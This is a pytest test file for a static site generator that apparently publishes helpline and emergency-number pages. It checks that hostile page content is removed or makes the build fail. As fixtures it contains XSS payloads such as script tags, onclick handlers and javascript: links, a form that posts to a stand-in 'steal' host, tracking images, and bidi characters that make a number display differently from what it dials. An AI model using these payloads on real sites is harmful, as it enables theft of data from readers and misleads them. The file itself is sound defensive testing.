"""Hostile pages, headers and hidden characters never reach a reader.

Each attack is written into a site that built cleanly before; the build must
fail with the exact file:line message and leave output/ byte for byte as it was.
"""

from __future__ import annotations

import logging
import re
import shutil

import markdown
import pytest
from sites import REPO, Page, build_demo, build_fixture, tree_digest, write_site

import signposter.build.reader as markdown_reader
from signposter.cli import load_settings, orgs_check

GOOD = {
    "content/countries.yaml": """
        PL:
          emergency: ["112"]
        """,
    "content/pages/en/about.md": """
        Title: About
        Reviewed: 2026-11-20

        Call 112 in an emergency.
        """,
    "content/pages/uk/about.md": """
        Title: Про нас
        Reviewed: 2026-11-20

        Телефонуйте 112 у надзвичайній ситуації.
        """,
}

PAGE = "content/pages/en/attack.md"

# Raw HTML and dangerous addresses: warnings stripped in normal builds, errors
# in strict builds. (files, exact message, text that must not reach the HTML)
HTML_ATTACKS = {
    "script tag": (
        {PAGE: "Title: Attack\n\nHello.\n\n<script>steal()</script>\n"},
        f"{PAGE}:5: HTML: <script> is not allowed in pages, and was removed — "
        "delete it",
        "steal()",
    ),
    "script in the Summary header": (
        {PAGE: "Title: Attack\nSummary: Hi <script>steal()</script>\n\nText.\n"},
        f"{PAGE}:2: Summary: <script> is not allowed in pages, and was removed",
        "steal()",
    ),
    "onclick attribute": (
        {
            PAGE: 'Title: Attack\n\nText.\n\n<p><a href="/x" onclick="go()">'
            "Call</a></p>\n"
        },
        f"{PAGE}:5: HTML: the onclick attribute of <a> runs code, and was removed "
        "— delete onclick=…",
        "go()",
    ),
    "tracking image from another host": (
        {
            PAGE: "Title: Attack\n\nText.\n\n"
            '<img src="https://tracker.example.net/p.gif" alt="">\n'
        },
        f"{PAGE}:5: HTML: <img> loads https://tracker.example.net/p.gif from "
        "another site, which would learn who reads this page; it was removed",
        "tracker.example.net",
    ),
    "javascript: link in Markdown": (
        {PAGE: "Title: Attack\n\nA [help line](javascript:steal()) here.\n"},
        f"{PAGE}:3: HTML: the address 'javascript:steal()' in <a href> is not allowed",
        "javascript:",
    ),
    "iframe": (
        {PAGE: 'Title: Attack\n\nText.\n\n<iframe src="https://x.example"></iframe>\n'},
        f"{PAGE}:5: HTML: <iframe> is not allowed in pages",
        "x.example",
    ),
    "form": (
        {
            PAGE: "Title: Attack\n\nText.\n\n"
            '<form action="https://x.example/steal"><input name="p"></form>\n'
        },
        f"{PAGE}:5: HTML: <form> is not allowed in pages",
        "x.example/steal",
    ),
    "css url() in a style attribute": (
        {
            PAGE: "Title: Attack\n\nText.\n\n"
            '<p style="background: url(https://x.example/p.png)">Hi</p>\n'
        },
        f"{PAGE}:5: HTML: the style 'background:url(https://x.example/p.png)' of "
        "<p> is not allowed (only text-align)",
        "x.example",
    ),
    "data: image": (
        {PAGE: 'Title: Attack\n\nText.\n\n<img src="data:image/png;base64,AAAA">\n'},
        f"{PAGE}:5: HTML: the address 'data:image/png;base64,AAAA' in <img src> "
        "is not allowed",
        "data:image",
    ),
    "plain http link": (
        {PAGE: "Title: Attack\n\nSee [the rules](http://example.org/rules).\n"},
        f"{PAGE}:3: link: http://example.org/rules is not encrypted (http://): "
        "anyone on the reader's network can see or change it — use the https:// "
        "address",
        None,  # kept in normal builds: only a warning
    ),
    "http link split by a tab": (
        {PAGE: 'Title: Attack\n\nSee <a href="ht&#9;tp://example.org/tab">it</a>.\n'},
        "link: http://example.org/tab is not encrypted (http://)",
        None,
    ),
    "http link hidden behind an entity": (
        {
            PAGE: "Title: Attack\n\n"
            'See <a href="http&#58;//example.org/hidden">it</a>.\n'
        },
        "link: http://example.org/hidden is not encrypted (http://)",
        None,
    ),
}

# Always errors, in every build. (files, exact message, settings overrides)
ERRORS = {
    "Save_as header replacing the Polish directory page": (
        {PAGE: "Title: Attack\nSave_as: uk/help/pl/index.html\n\nText.\n"},
        f"{PAGE}:2: Save_as: this header is not allowed in pages: it could move "
        "the page or change how it is written — delete the line (pages may use: "
        "Title, Summary, Reviewed,",
        {},
    ),
    "Url header": (
        {PAGE: "Title: Attack\nUrl: uk/help/pl/\n\nText.\n"},
        f"{PAGE}:2: Url: this header is not allowed in pages",
        {},
    ),
    "Status header": (
        {PAGE: "Title: Attack\nStatus: hidden\n\nText.\n"},
        f"{PAGE}:2: Status: this header is not allowed in pages",
        {},
    ),
    "template that is not allowed": (
        {PAGE: "Title: Attack\nTemplate: chooser\n\nText.\n"},
        f"{PAGE}:2: Template: 'chooser' is not allowed here — write "
        "`Template: campaign`, or delete the line",
        {},
    ),
    "allowed Save_as that would replace the directory page": (
        {PAGE: "Title: Attack\nSave_as: uk/help/pl/index.html\n\nText.\n"},
        f"{PAGE}:2: output path: {PAGE} and the site's help_country.html would "
        "both be published as uk/help/pl/index.html — a page must never replace",
        {"save_as": None},
    ),
    "allowed Url pointing at the language chooser": (
        {PAGE: "Title: Attack\nUrl: index.html\n\nText.\n"},
        f"{PAGE}:2: output path: {PAGE} and the site's chooser.html would "
        "both be published as index.html",
        {"url": None},
    ),
    "allowed Slug colliding with another page": (
        {PAGE: "Title: Attack\nSlug: about\n\nText.\n"},
        f"{PAGE}:2: output path: {PAGE} and content/pages/en/about.md would "
        "both be published as en/about/index.html",
        {"slug": None},
    ),
    "page file named like the directory": (
        {"content/pages/en/help.md": "Title: Help\n\nText.\n"},
        "content/pages/en/help.md: output path: content/pages/en/help.md and the "
        "site's help_index.html would both be published as en/help/index.html",
        {},
    ),
    "sitemap.xml written by a page": (
        {PAGE: "Title: Attack\nSave_as: sitemap.xml\n\nText.\n"},
        f"{PAGE}:2: output path: {PAGE} and the site's sitemap.xml would "
        "both be published as sitemap.xml",
        {"save_as": None},
    ),
    "theme stylesheet written by a page": (
        {PAGE: "Title: Attack\nSave_as: theme/css/site.css\n\nText.\n"},
        f"{PAGE}:2: output path: {PAGE} and the theme's file theme/css/site.css "
        "would both be published as theme/css/site.css",
        {"save_as": None},
    ),
    "number shown as 110 that dials 011 (right-to-left override)": (
        {PAGE: "Title: Attack\n\nCall \u202e011\u202c now.\n"},
        f"{PAGE}:3: hidden character: U+202E RIGHT-TO-LEFT OVERRIDE (column 6) is "
        "invisible and can change how the text or a number around it reads — "
        "delete it",
        {},
    ),
    "zero-width space inside an email in a page header": (
        {PAGE: "Title: Write to help\u200b@example.org\n\nText.\n"},
        f"{PAGE}:1: hidden character: U+200B ZERO WIDTH SPACE (column 21)",
        {},
    ),
    "zero-width non-joiner inside a phone number in a Farsi page": (
        {
            "content/pages/fa/about.md": (
                "Title: درباره\u200cی ما\n\nبا شماره\u200cی +48\u200c22 000 0000 "
                "تماس بگیرید.\n"
            )
        },
        "content/pages/fa/about.md:3: hidden character: U+200C ZERO WIDTH "
        "NON-JOINER (column 15) is inside a number, email or web address",
        {},
    ),
    "left-to-right mark in a page": (
        {PAGE: "Title: Attack\n\nText\u200e here.\n"},
        f"{PAGE}:3: hidden character: U+200E LEFT-TO-RIGHT MARK (column 5)",
        {},
    ),
    "byte-order mark inside a line": (
        {PAGE: "Title: Attack\n\nText\ufeff here.\n"},
        f"{PAGE}:3: hidden character: U+FEFF ZERO WIDTH NO-BREAK SPACE (column 5)",
        {},
    ),
    "isolate in a hotline number in countries.yaml": (
        {
            "content/countries.yaml": (
                'PL:\n  emergency: ["112"]\n  hotlines:\n    - name:\n'
                "        en: Helpline\n"
                '      number: "\u2067116 123\u2069"\n'
            )
        },
        "content/countries.yaml:6: hidden character: U+2067 RIGHT-TO-LEFT ISOLATE "
        "(column 16)",
        {},
    ),
    "override in a catalog": (
        {
            "translations/uk/LC_MESSAGES/messages.po": (
                'msgid ""\nmsgstr ""\n'
                '"Content-Type: text/plain; charset=UTF-8\\n"\n\n'
                'msgid "Find help"\nmsgstr "\u202dЗнайти допомогу"\n'
            )
        },
        "translations/uk/LC_MESSAGES/messages.po:6: hidden character: U+202D "
        "LEFT-TO-RIGHT OVERRIDE (column 9)",
        {},
    ),
}


def _headers(extra: dict) -> dict:
    from signposter.settings import OPTIONS

    return {**OPTIONS["SIGNPOSTER_PAGE_HEADERS"].default, **extra}


@pytest.fixture
def good_site(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    write_site(tmp_path, GOOD)
    shutil.copytree(REPO / "translations", tmp_path / "translations")
    assert build_fixture(tmp_path, SIGNPOSTER_STRICT=True) == 0
    return tmp_path


@pytest.mark.parametrize("case", HTML_ATTACKS, ids=list(HTML_ATTACKS))
def test_html_attack_fails_strict_build(good_site, capsys, case):
    files, expected, _ = HTML_ATTACKS[case]
    before = tree_digest(good_site / "output")
    write_site(good_site, files)
    assert build_fixture(good_site, SIGNPOSTER_STRICT=True) == 1
    assert expected in capsys.readouterr().err
    assert tree_digest(good_site / "output") == before


@pytest.mark.parametrize("case", HTML_ATTACKS, ids=list(HTML_ATTACKS))
def test_html_attack_is_stripped_with_a_warning(good_site, caplog, case):
    files, expected, gone = HTML_ATTACKS[case]
    write_site(good_site, files)
    with caplog.at_level(logging.WARNING):
        assert build_fixture(good_site) == 0
    assert expected in caplog.text
    for lang in ("en", "uk"):
        html = (good_site / "output" / lang / "attack" / "index.html").read_text()
        if gone:
            assert gone not in html
        page = Page(good_site / "output" / lang / "attack" / "index.html")
        assert page.find_all("article")


@pytest.mark.parametrize("case", ERRORS, ids=list(ERRORS))
def test_error_stops_every_build(good_site, capsys, case):
    files, expected, allow = ERRORS[case]
    before = tree_digest(good_site / "output")
    write_site(good_site, files)
    overrides = {"SIGNPOSTER_PAGE_HEADERS": _headers(allow)} if allow else {}
    assert build_fixture(good_site, **overrides) == 1
    err = capsys.readouterr().err
    assert expected in err
    assert " — " in err.split(expected, 1)[1].splitlines()[0] or " — " in expected
    assert tree_digest(good_site / "output") == before


def test_sanitizing_also_applies_when_pages_are_converted_in_parallel(
    good_site, capsys, monkeypatch
):
    monkeypatch.setattr(markdown_reader, "PARALLEL_FROM", 1)
    files, expected, gone = HTML_ATTACKS["script tag"]
    before = tree_digest(good_site / "output")
    write_site(good_site, files)
    assert build_fixture(good_site, SIGNPOSTER_STRICT=True) == 1
    assert expected in capsys.readouterr().err
    assert tree_digest(good_site / "output") == before
    assert build_fixture(good_site) == 0
    assert gone not in (good_site / "output/en/attack/index.html").read_text()


def _our_warnings(text: str) -> list[str]:
    fields = ("HTML:", "hidden character:", "output path:", "link:")
    return [line for line in text.splitlines() if any(f in line for f in fields)]


def test_http_links_can_be_allowed(good_site, caplog):
    files, _, _ = HTML_ATTACKS["plain http link"]
    write_site(good_site, files)
    with caplog.at_level(logging.WARNING):
        assert build_fixture(good_site, SIGNPOSTER_ALLOW_HTTP_LINKS=True) == 0
    assert _our_warnings(caplog.text) == []
    page = Page(good_site / "output/en/attack/index.html")
    assert page.first("a", href="http://example.org/rules")


LEGITIMATE = """\
Title: Everything Markdown gives
Summary: Tables, footnotes and abbreviations.

## Numbers {: #numbers lang=uk dir=ltr }

| Service | Number |
|:--------|-------:|
| Emergency | 112 |

Call the HTML line[^1] or write to <help@example.org> or see <https://example.org/>.

*[HTML]: a made-up helpline

Term
: Its meaning

- one
- **two**

> Quoted *text*

[^1]: Free from any phone.

<p lang="fa" dir="rtl">درباره‌ی ما</p>
"""


def test_theme_markdown_survives_byte_for_byte(good_site, caplog):
    write_site(good_site, {"content/pages/en/rich.md": LEGITIMATE})
    with caplog.at_level(logging.WARNING):
        assert build_fixture(good_site) == 0
    assert _our_warnings(caplog.text) == []
    html = (good_site / "output/en/rich/index.html").read_text()
    # Contact links are marked for counting (counting/contact_links); apart
    # from those attributes the HTML is Markdown's own.
    html = re.sub(r' data-(?:org|channel|lang|country|campaign|from)="[^"]*"', "", html)
    converter = markdown.Markdown(
        extensions=["markdown.extensions.extra", "markdown.extensions.meta"],
        output_format="html5",
    )
    expected = converter.convert(LEGITIMATE)
    assert expected in html
    for part in ('<th style="text-align: left;">', "footnote-backref", "<abbr"):
        assert part in expected


def test_farsi_and_bengali_joiners_in_running_text_are_accepted(good_site, caplog):
    write_site(
        good_site,
        {
            "content/pages/fa/about.md": "Title: درباره‌ی ما\n\nمی‌روند و "
            "نمی‌دانند. با ۱۱۲ تماس بگیرید.\n",
            "content/pages/bn/about.md": "Title: সম্পর্কে\n\nর‍্যাব ও "
            "জ্ঞান। ১১২ নম্বরে ফোন করুন।\n",
        },
    )
    with caplog.at_level(logging.WARNING):
        assert build_fixture(good_site, languages=("en", "uk", "fa", "bn")) == 0
    assert _our_warnings(caplog.text) == []


def test_orgs_check_reports_hidden_characters(good_site, capsys):
    files, expected, _ = ERRORS["isolate in a hotline number in countries.yaml"]
    write_site(good_site, files)
    settings = load_settings(
        str(REPO / "pelicanconf.py"), PATH=str(good_site / "content")
    )
    assert orgs_check(settings) == 1
    assert expected in capsys.readouterr().err


def test_demo_site_builds_without_a_gate_warning(tmp_path, caplog):
    with caplog.at_level(logging.WARNING):
        assert build_demo(tmp_path / "output") == 0
    assert _our_warnings(caplog.text) == []


@pytest.mark.parametrize(
    "name",
    ["evil.html", "evil.rst", "evil.markdown"],
)
def test_a_page_that_is_not_markdown_is_refused_not_published(good_site, name, capsys):
    """Pelican's HTML and reST readers would publish raw HTML past every check."""
    built = build_fixture(good_site)
    assert built == 0
    before = tree_digest(good_site / "output")
    write_site(
        good_site,
        {
            f"content/pages/en/{name}": "<html><head><title>Evil</title></head><body>"
            '<meta http-equiv="refresh" content="0;url=https://abuser.net/">'
            "<script>alert(1)</script></body></html>\n",
        },
    )
    assert build_fixture(good_site) == 1
    assert (
        f"content/pages/en/{name}: file: is not a page: pages are Markdown files"
        in capsys.readouterr().err
    )
    assert tree_digest(good_site / "output") == before
    assert not list((good_site / "output").rglob("evil*"))
